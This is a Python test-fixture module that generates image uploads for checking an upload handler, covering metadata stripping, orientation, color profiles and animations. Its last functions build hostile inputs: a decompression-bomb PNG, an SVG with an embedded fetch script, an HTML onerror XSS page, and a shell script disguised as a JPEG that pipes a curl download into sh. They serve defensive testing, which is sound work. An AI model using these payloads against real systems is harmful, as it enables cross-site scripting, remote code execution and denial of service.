"""Image uploads for tests, good and bad, made in memory: each function returns a file's bytes.

Images are small unless asked otherwise and always the same bytes for the same arguments. The
metadata a camera or editor leaves (EXIF with GPS, XMP, comments, ICC profiles, PNG text) is
there where a function's name or docstring says so, so tests can prove it is removed.
"""

import io
import struct
import zlib

from PIL import ExifTags, Image, ImageCms, ImageDraw, PngImagePlugin

RED = (220, 20, 20)
BLUE = (20, 40, 220)
XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Ada Lovelace"/></rdf:RDF>'
    b"</x:xmpmeta>"
)
COMMENT = b"Taken at Ada's house"


def _save(image, file_format, **options):
    buffer = io.BytesIO()
    image.save(buffer, file_format, **options)
    return buffer.getvalue()


def camera_exif(exif_orientation=None, gps=True):
    """EXIF as a phone writes it: make, model, time, an orientation if given, GPS if asked."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Phone Maker"
    exif[ExifTags.Base.Model] = "Phone 12"
    exif[ExifTags.Base.DateTime] = "2025:01:07 09:00:00"
    if exif_orientation is not None:
        exif[ExifTags.Base.Orientation] = exif_orientation
    if gps:
        exif[ExifTags.IFD.GPSInfo] = {
            ExifTags.GPS.GPSLatitudeRef: "N",
            ExifTags.GPS.GPSLatitude: (51.0, 30.0, 26.0),
            ExifTags.GPS.GPSLongitudeRef: "W",
            ExifTags.GPS.GPSLongitude: (0.0, 7.0, 39.0),
        }
    return exif


def jpeg(width=40, height=20, color=RED, exif_orientation=None, gps=True, quality=90):
    """A one-color JPEG with camera EXIF (GPS unless gps=False), XMP and a comment."""
    image = Image.new("RGB", (width, height), color)
    return _save(
        image,
        "JPEG",
        quality=quality,
        exif=camera_exif(exif_orientation, gps),
        xmp=XMP,
        comment=COMMENT,
    )


def red_left_blue_right_jpeg(exif_orientation=6):
    """A 40x20 JPEG, left half red and right half blue, stored sideways: with orientation 6 it
    shows 20x40, red on top."""
    image = Image.new("RGB", (40, 20), BLUE)
    image.paste(RED, (0, 0, 20, 20))
    return _save(image, "JPEG", quality=95, exif=camera_exif(exif_orientation))


def photo_jpeg(width=4000, height=3000):
    """A JPEG with detail everywhere, as a camera photo has: for timing, and tests of size."""
    gray = Image.effect_mandelbrot((width, height), (-2.2, -1.2, 1.0, 1.2), 64)
    ramp = Image.linear_gradient("L").resize((width, height))
    ring = Image.radial_gradient("L").resize((width, height))
    image = Image.merge("RGB", (gray, ramp, ring))
    return _save(image, "JPEG", quality=90, exif=camera_exif(exif_orientation=1))


def swapped_primaries_icc_profile():
    """An RGB ICC profile whose red primary is sRGB's blue and the other way around, so a
    correct conversion to sRGB turns a red pixel blue."""
    profile = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    (count,) = struct.unpack(">I", profile[128:132])
    entries = {}
    for index in range(count):
        start = 132 + 12 * index
        entries[bytes(profile[start : start + 4])] = start
    red, blue = entries[b"rXYZ"], entries[b"bXYZ"]
    profile[red + 4 : red + 12], profile[blue + 4 : blue + 12] = (
        profile[blue + 4 : blue + 12],
        profile[red + 4 : red + 12],
    )
    # Its name must not say sRGB ("sRGB built-in" becomes "BGRs built-in").
    return bytes(profile).replace("sRGB".encode("utf-16-be"), "BGRs".encode("utf-16-be"))


def jpeg_with_icc_profile(icc_profile=None, color=RED):
    """A 40x20 one-color JPEG tagged with an ICC profile (by default the swapped-primaries one:
    shown right, its red is blue)."""
    image = Image.new("RGB", (40, 20), color)
    profile = icc_profile or swapped_primaries_icc_profile()
    return _save(image, "JPEG", quality=95, icc_profile=profile)


def srgb_icc_profile():
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def cmyk_jpeg(width=40, height=20, cmyk=(0, 255, 255, 0)):
    """A CMYK JPEG (as print software saves), by default pure red ink."""
    return _save(Image.new("CMYK", (width, height), cmyk), "JPEG", quality=95)


def mpo(width=40, height=20, color=RED):
    """A JPEG with a second, smaller picture appended (MPO), as many cameras save: the first
    picture is the photo."""
    first = Image.new("RGB", (width, height), color)
    second = Image.new("RGB", (width // 2, height // 2), BLUE)
    return _save(first, "MPO", save_all=True, append_images=[second], exif=camera_exif())


def png(width=40, height=20, color=RED):
    """An opaque RGB PNG with EXIF (GPS), XMP, a text chunk and an sRGB ICC profile."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", COMMENT.decode())
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    image = Image.new("RGB", (width, height), color)
    return _save(image, "PNG", pnginfo=info, exif=camera_exif(), icc_profile=srgb_icc_profile())


def png_16bit_gray(width=40, height=20, value=32768):
    """A 16-bit grayscale PNG (mode I;16), by default mid-grey."""
    return _save(Image.new("I;16", (width, height), value), "PNG")


def rgba_png(width=40, height=20):
    """An RGBA PNG: left half opaque red, right half fully transparent."""
    image = Image.new("RGBA", (width, height), (0, 0, 0, 0))
    image.paste((*RED, 255), (0, 0, width // 2, height))
    return _save(image, "PNG")


def opaque_rgba_png(width=40, height=20, color=RED):
    """An RGBA PNG whose every pixel is opaque."""
    return _save(Image.new("RGBA", (width, height), (*color, 255)), "PNG")


def la_png(width=40, height=20):
    """A gray-and-alpha PNG (mode LA): left half opaque grey, right half transparent."""
    image = Image.new("LA", (width, height), (0, 0))
    image.paste((128, 255), (0, 0, width // 2, height))
    return _save(image, "PNG")


def palette_png_with_transparency(width=40, height=20):
    """A palette PNG (mode P) whose index 0 is transparent: left half red, right half clear."""
    image = Image.new("P", (width, height), 0)
    image.putpalette([0, 0, 0, *RED])
    image.paste(1, (0, 0, width // 2, height))
    return _save(image, "PNG", transparency=0)


def webp(width=40, height=20, color=RED):
    """A lossy WebP with EXIF (GPS), XMP and an sRGB ICC profile."""
    image = Image.new("RGB", (width, height), color)
    return _save(
        image,
        "WEBP",
        quality=90,
        exif=camera_exif(),
        xmp=XMP,
        icc_profile=srgb_icc_profile(),
    )


FRAME_COLORS = (RED, (20, 160, 40), BLUE, (230, 200, 20), (120, 20, 160))


def _frames(count, size):
    return [Image.new("RGB", size, FRAME_COLORS[i % len(FRAME_COLORS)]) for i in range(count)]


def frame_durations(frames):
    """The durations (ms) the animations below give their frames: 100, 200, 300..."""
    return [100 * (i + 1) for i in range(frames)]


def animated_gif(frames=3, width=40, height=30):
    """A looping GIF whose frames are each one color (red, green, blue...) with durations
    100, 200, 300... ms, and a comment."""
    images = _frames(frames, (width, height))
    return _save(
        images[0],
        "GIF",
        save_all=True,
        append_images=images[1:],
        duration=frame_durations(frames),
        loop=0,
        comment=COMMENT,
    )


def transparent_animated_gif(frames=3, width=40, height=30):
    """A looping GIF whose frames have a transparent right half and a colored left half
    (red, green, blue...)."""
    images = []
    for color in FRAME_COLORS[:frames]:
        image = Image.new("RGBA", (width, height), (0, 0, 0, 0))
        image.paste((*color, 255), (0, 0, width // 2, height))
        images.append(image)
    return _save(
        images[0],
        "GIF",
        save_all=True,
        append_images=images[1:],
        duration=frame_durations(frames),
        loop=0,
        disposal=2,
    )


def animated_webp(frames=3, width=40, height=30):
    """A looping animated WebP, frames as in animated_gif()."""
    images = _frames(frames, (width, height))
    return _save(
        images[0],
        "WEBP",
        save_all=True,
        append_images=images[1:],
        duration=frame_durations(frames),
        loop=0,
        lossless=True,
        exif=camera_exif(),
    )


def animated_png(frames=3, width=40, height=30):
    """A looping APNG, frames as in animated_gif()."""
    images = _frames(frames, (width, height))
    return _save(
        images[0], "PNG", save_all=True, append_images=images[1:], duration=frame_durations(frames)
    )


def still_gif(width=40, height=20, color=RED):
    """A one-frame GIF with a comment."""
    image = Image.new("RGB", (width, height), color).convert("P", palette=Image.Palette.ADAPTIVE)
    return _save(image, "GIF", comment=COMMENT)


def bmp(width=40, height=20):
    """A real image in a format the site doesn't take."""
    return _save(Image.new("RGB", (width, height), RED), "BMP")


def _detailed(width, height):
    image = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    draw = ImageDraw.Draw(image)
    for x in range(0, width, 7):
        draw.line((x, 0, width - x, height), fill=(x % 256, 90, 200), width=2)
    return image


def truncated_jpeg():
    """The first half of a 200x200 JPEG: the header is whole, the pixels stop midway."""
    data = _save(_detailed(200, 200), "JPEG", quality=90)
    return data[: len(data) // 2]


def truncated_png():
    """The first half of a 200x200 PNG: the header is whole, the pixel data stops midway."""
    data = _save(_detailed(200, 200), "PNG")
    return data[: len(data) // 2]


def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb_png(width=20000, height=20000):
    """A valid PNG of a few dozen bytes whose header claims width x height pixels (by default
    400 million): decoding it would take gigabytes."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit gray
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def svg_with_script():
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20">'
        b'<rect width="40" height="20" fill="red"/>'
        b"<script>fetch('/admin/').then(r => r.text()).then(alert)</script></svg>\n"
    )


def html_page():
    return (
        b"<!DOCTYPE html>\n<html><head><title>Hi</title></head>"
        b"<body><img src=x onerror=alert(1)></body></html>\n"
    )


def script_renamed_jpg():
    """A shell script, as someone would upload it renamed to photo.jpg."""
    return b"#!/bin/sh\ncurl -s http://127.0.0.1/payload | sh\n"
